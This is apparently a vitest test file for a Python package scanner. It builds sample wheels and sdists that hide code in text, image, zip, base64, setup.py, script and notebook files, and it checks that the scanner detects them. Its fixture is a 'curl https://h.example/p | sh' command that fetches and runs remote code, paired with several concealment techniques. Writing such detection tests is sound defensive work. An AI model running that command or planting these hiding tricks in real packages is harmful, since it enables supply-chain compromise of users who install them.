import { buildSdist } from '@safe-pip/testkit/build-sdist'
import { buildWheel } from '@safe-pip/testkit/build-wheel'
import { writeZip } from '@safe-pip/testkit/zip-writer'
import { expect, it } from 'vitest'
import { bytesOf } from '../base/byte-source.ts'
import { loadCodeReader } from '../node/load-code-reader.ts'
import { examineArtifact } from '../vet/examine.ts'

const INNER = 'import os\nos.system("curl https://h.example/p | sh")\n'

/** `context name` of shells that the code of such an artifact starts. */
async function shells(kind: 'wheel' | 'sdist', files: Readonly<Record<string, string | Uint8Array>>): Promise<string[]> {
  const demo = { name: 'demo', version: '1.0', files }
  const built = kind === 'wheel' ? buildWheel(demo) : buildSdist({ ...demo, backend: 'none' })
  const { source } = await examineArtifact(bytesOf(built.bytes), built.filename, { codeReader: await loadCodeReader() })
  const uses = source.state === 'known' ? source.value.uses : []
  return uses.filter(({ name }) => name === 'os.system').map(({ context, name }) => `${context} ${name}`)
}

async function problemIdsOf(files: Readonly<Record<string, string | Uint8Array>>): Promise<string[]> {
  const built = buildWheel({ name: 'demo', version: '1.0', files })
  const { source } = await examineArtifact(bytesOf(built.bytes), built.filename, { codeReader: await loadCodeReader() })
  return source.state === 'known' ? source.value.problems.map(({ id }) => id) : [source.state]
}

it.each([
  ['exec of a text', 'import os\nexec(open(os.path.join(os.path.dirname(__file__), "d.txt")).read())\n', 'd.txt'],
  ['exec of a picture', 'exec(open("demo/d.png", "rb").read())\n', 'd.png'],
  ['exec of a resource', 'import pkgutil\nexec(pkgutil.get_data("demo", "d.dat"))\n', 'd.dat'],
  ['exec of a resource read as text', 'from importlib import resources\nexec(resources.read_text("demo", "d.txt"))\n', 'd.txt'],
  ['run_path', 'import runpy, os\nrunpy.run_path(os.path.join(os.path.dirname(__file__), "d.dat"))\n', 'd.dat'],
  ['a loader', 'from importlib.machinery import SourceFileLoader\nSourceFileLoader("x", "demo/d.dat").load_module()\n', 'd.dat'],
  ['another Python', 'import subprocess, sys\nsubprocess.run([sys.executable, "demo/d.txt"])\n', 'd.txt'],
])('%s runs what the file of the package holds', async (_, code, name) => {
  expect(await shells('wheel', { 'demo/__init__.py': code, [`demo/${name}`]: INNER })).toEqual(['import os.system'])
})

it('what a file holds is decoded as code decodes it', async () => {
  const code = 'import base64\nexec(base64.b64decode(open("demo/d.bin", "rb").read()))\n'
  const files = { 'demo/__init__.py': code, 'demo/d.bin': Buffer.from(INNER).toString('base64') }
  expect(await shells('wheel', files)).toEqual(['import os.system'])
})

it('an archive under any name on sys.path is opened', async () => {
  const code = 'import os, sys\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), "d.dat"))\nimport hidden\n'
  const files = { 'demo/__init__.py': code, 'demo/d.dat': writeZip([{ name: 'hidden.py', data: INNER }]) }
  expect(await shells('wheel', files)).toEqual(['import os.system'])
})

it.each(['sys.path.extend([p])', 'sys.path[0:0] = [p]', 'sys.path = [p]', 'import site; site.addsitedir(p)'])(
  '%s is an entry of the path',
  async (entry) => {
    const files = {
      'demo/__init__.py': `import sys\np = "demo/d.zip"\n${entry}\nimport hidden\n`,
      'demo/d.zip': writeZip([{ name: 'hidden.py', data: INNER }]),
    }
    expect(await shells('wheel', files)).toEqual(['import os.system'])
  },
)

it('a font that something might run is no code, however deep it looks; a script with a null byte is', async () => {
  const code = 'import subprocess, sys\nsubprocess.run([sys.executable, "demo/d.ttf"])\n'
  const font = `\0\u0001\n${'+'.repeat(5000)}x\n`
  expect(await problemIdsOf({ 'demo/__init__.py': code, 'demo/d.ttf': Buffer.from(font, 'latin1') })).toEqual([])
  expect(await shells('wheel', { 'demo/__init__.py': code, 'demo/d.ttf': `#\0\n${INNER}` })).toEqual(['import os.system'])
})

it('an archive that code is run from and that cannot be read is a problem, never clean', async () => {
  const code = (name: string): string => `import sys\nsys.path.extend(["demo/${name}"])\nimport hidden\n`
  const archive = Buffer.concat([Buffer.from('prefix'), writeZip([{ name: 'hidden.py', data: INNER }])])
  for (const name of ['d.dat', 'd.zip']) {
    const built = buildWheel({
      name: 'demo',
      version: '1.0',
      files: { 'demo/__init__.py': code(name), [`demo/${name}`]: archive },
    })
    const { source } = await examineArtifact(bytesOf(built.bytes), built.filename, { codeReader: await loadCodeReader() })
    expect(source.state === 'known' ? source.value.problems.map(({ id, file }) => `${id} ${file}`) : []).toEqual([
      `archive-not-read demo/${name}`,
    ])
  }
})

it('setup.py runs texts at install', async () => {
  expect(await shells('sdist', { 'setup.py': 'exec(open("VERSION.txt").read())\n', 'VERSION.txt': INNER })).toEqual([
    'install os.system',
  ])
})

it('a script of a wheel needs no suffix', async () => {
  expect(await shells('wheel', { 'demo/__init__.py': '', 'demo-1.0.data/scripts/zz': `#!python\n${INNER}` })).toEqual([
    'entry-point os.system',
  ])
  expect(await shells('wheel', { 'demo/__init__.py': '', 'demo-1.0.data/scripts/zz': '#!/bin/sh\nls\n' })).toEqual([])
})

it('a program among the scripts of a wheel is listed, and another large file there is a problem', async () => {
  const large = Buffer.alloc(300_000, 'x = 1\n')
  const program = Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01\0', 'latin1'), Buffer.alloc(9_000_000)])
  const problemsOf = async (content: Uint8Array): Promise<string[]> => {
    const built = buildWheel({
      name: 'demo',
      version: '1.0',
      files: { 'demo/__init__.py': '', 'demo-1.0.data/scripts/zz': content },
    })
    const { source } = await examineArtifact(bytesOf(built.bytes), built.filename, { codeReader: await loadCodeReader() })
    return source.state === 'known'
      ? [
          ...source.value.inventory.natives.map(({ format, file }) => `${format} ${file}`),
          ...source.value.problems.map(({ id, file }) => `${id} ${file}`),
        ]
      : []
  }
  expect(await problemsOf(program)).toEqual(['ELF demo-1.0.data/scripts/zz'])
  expect(await problemsOf(large)).toEqual(['file-too-large demo-1.0.data/scripts/zz'])
})

it('files that are only read are not run', async () => {
  const code = 'text = open("demo/d.txt").read()\nprint(text)\n'
  expect(await shells('wheel', { 'demo/__init__.py': code, 'demo/d.txt': INNER })).toEqual([])
})

it('a build that cannot be read is not checked', async () => {
  const built = buildSdist({
    name: 'demo',
    version: '1.0',
    backend: 'none',
    files: { 'pyproject.toml': 'version = \n', 'be.py': INNER },
  })
  const { source } = await examineArtifact(bytesOf(built.bytes), built.filename, { codeReader: await loadCodeReader() })
  expect(source).toMatchObject({ state: 'known', value: { problems: [{ id: 'broken-pyproject' }] } })
})

it('shell cells of a notebook are commands', async () => {
  const cells = [{ cell_type: 'code', source: ['%%bash\n', 'curl https://h.example/p | sh'] }]
  const files = { 'demo/__init__.py': '', 'demo/n.ipynb': JSON.stringify({ cells, nbformat: 4 }) }
  expect(await shells('wheel', files)).toEqual(['call os.system'])
})
